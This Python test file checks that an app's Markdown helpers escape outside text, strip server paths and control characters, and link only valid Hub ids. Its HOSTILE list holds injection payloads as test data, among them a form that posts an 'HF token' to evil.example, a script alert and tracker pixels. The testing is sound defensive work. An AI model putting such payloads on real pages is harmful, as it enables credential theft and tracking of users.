"""Outside text is shown as text: in Markdown every syntax character is escaped, server paths and control
characters never reach a page, and the only link is to a validated id's Hub page. The browser test
(tests/app/test_literal_text.py) checks the same strings in gradio's own Markdown."""

from __future__ import annotations

import html
import re

import markdown_it  # comes with gradio
import pytest

from core.markup import md_code, md_hub_link, md_message, md_text, one_line, shown

HOSTILE = [
    '<form action="https://evil.example/steal"><input name="token" placeholder="HF token"></form>',
    "<style>body { display: none }</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
    '<img src="https://tracker.example/pixel.gif">',
    "![pixel](https://tracker.example/p.png) [click here](https://evil.example) <https://evil.example>",
    "https://evil.example/a www.evil.example WWW.Evil.example mail@evil.example ftp://evil.example",
    "**bold** __bold__ _em_ *em* ~~struck~~ `code` ``code``",
    "# heading",
    "- item",
    "1. item",
    "2) item",
    "> quote",
    "+ item",
    "---",
    "===",
    "    indented code",
    "$$\\frac{1}{2}$$ $x$",
    "```mermaid\ngraph TD; A-->B\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "line one\n\n# line two\n- three",
    "&lt;b&gt; &amp; &#60;script&#62; &copy;",
    "\\*not emphasis\\* trailing backslash \\",
    "%%%LATEX_BLOCK_0%%%",
    "[x]: https://evil.example",
    "<!-- comment --> <script>alert(1)</script>",
    "org/Llama-3.1-8B_instruct (v2.0); 80GB, 550.54.15",
]


def _gfm() -> markdown_it.MarkdownIt:
    return markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_outside_text_renders_as_that_text_and_nothing_else(text):
    rendered = _gfm().render(md_text(text)).strip()
    assert rendered.startswith("<p>") and rendered.endswith("</p>"), rendered
    inner = rendered[3:-4]
    assert "<" not in inner, rendered  # no element at all: escaped characters come out as entities
    assert html.unescape(inner) == one_line(text).strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_auto_link_or_latex_can_start_in_it(text):
    """gradio's marked auto-links `scheme://`, `www.` and e-mail addresses, and runs KaTeX on `$$`."""
    markdown = md_text(text)
    assert not re.search(r"(?:https?|ftp)://|www\.|[^\\]@|(?<!\\)\$\$", markdown, re.IGNORECASE), markdown


def test_ids_read_the_same_in_the_source():
    assert md_text("org/Llama-3.1-8B") == "org/Llama-3.1-8B"
    assert md_text("NVIDIA H100 80GB HBM3 (driver 550.54.15)") == "NVIDIA H100 80GB HBM3 (driver 550.54.15)"


def test_code_and_messages_are_literal_too():
    assert _gfm().render(md_code("<b>x</b>`y`")).strip() == "<p><code>&lt;b&gt;x&lt;/b&gt;`y`</code></p>"
    message = md_message("`<img src=x>` is a `LlamaForCausalLM`; needs `*ForCausalLM")
    rendered = _gfm().render(message).strip()
    assert rendered == ("<p><code>&lt;img src=x&gt;</code> is a <code>LlamaForCausalLM</code>; needs `*ForCausalLM</p>")


def test_only_valid_hub_ids_are_linked():
    assert md_hub_link("org/model-1.5") == "[org/model-1.5](https://huggingface.co/org/model-1.5)"
    for bad in ("evil](https://evil.example", "../../etc", "a b", "org/x)(y"):
        assert "<a" not in _gfm().render(md_hub_link(bad)), bad


def test_server_paths_and_control_characters_never_reach_a_page():
    reason = "config.json cannot be read ([Errno 13] Permission denied: '/srv/worker/data/models/acme/x/config.json')"
    assert shown(reason) == "config.json cannot be read ([Errno 13] Permission denied: '…/config.json')"
    trace = 'File "/home/app/.venv/lib/python3.11/site-packages/torch/nn/module.py", line 3\n\tx'
    assert shown(trace) == 'File "…/module.py", line 3\n\tx'  # a log keeps its lines
    kept = "https://huggingface.co/org/model at org/model, 1/2 of 80GB/s, Wh / 1k"
    assert shown(kept) == kept  # URLs, ids, fractions and units are not paths
    assert one_line("a\x00b\x1b[31mc\u202ed\r\ne\tf") == "a\ufffdb\ufffd[31mc\ufffdd e f"
    assert "/srv" not in md_text(reason) and "/srv" not in md_message(f"`{reason}`")
